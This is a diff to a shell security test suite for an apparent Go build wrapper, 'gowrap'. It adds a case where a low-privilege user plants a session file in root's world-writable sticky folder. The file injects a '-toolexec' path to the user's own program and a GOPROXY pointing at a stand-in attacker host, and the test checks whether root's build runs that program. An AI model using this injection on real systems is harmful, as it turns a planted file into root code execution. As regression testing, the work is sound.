@@ -78,6 +78,24 @@ folder_linked() {
 }
 folder_open_by_acl() { install -o alice -g alice -m 600 /run/forged "$file"; setfacl -m u:mallory:rwx "$(dirname "$file")"; }
 
+# Root can read a file of mode 0600 that is mallory's. He may put it into the folder of root's snapshot, which is sticky.
+in_sticky_of_root() {
+    local folder=/root/.local/state/gowrap
+    evil /home/mallory/evil
+    chmod 755 /root
+    mkdir -p $folder
+    chmod 1777 $folder
+    as mallory "umask 077; printf 'gowrap session 1\nGOFLAGS=-toolexec=/home/mallory/evil\0GOPROXY=https://mallory.example\0' >$folder/session"
+    control 'the file is there' [ "$(stat -c '%U %a' $folder/session)" = 'mallory 600' ]
+    stripped root 'go build'
+    control 'go ran as root' proof 'root ran /usr/bin/go build'
+    harm "mallory's program ran as root" proof 'root ran evil'
+    : >/run/proof
+    chown root: $folder/session
+    stripped root 'go build'
+    control 'the same file of root is used' proof 'root ran evil'
+}
+
 attack 'alice: su alice' captured_below alice 'su alice -c'
 attack 'alice: exec su alice' captured_below alice 'exec su alice -c'
 attack 'alice: setsid -f su alice' captured_below alice 'setsid -f su alice -c'
@@ -107,6 +125,7 @@ attack 'hidepid=2, alice: exec su alice' with_hidden_processes alice 'exec su al
 attack 'hidepid=2, alice: setsid -f su alice' with_hidden_processes alice 'setsid -f su alice -c'
 attack 'hidepid=2, alice: sudo -Eu alice' with_hidden_processes alice 'sudo -Eu alice'
 attack 'the file is of mallory' planted of_mallory
+attack 'root: the file is of mallory, in a sticky folder' in_sticky_of_root
 attack 'the file is open to a group' planted open_to_a_group
 attack 'the file is open by an access list' planted open_by_acl
 attack 'the file is a link to a file of mallory' planted linked
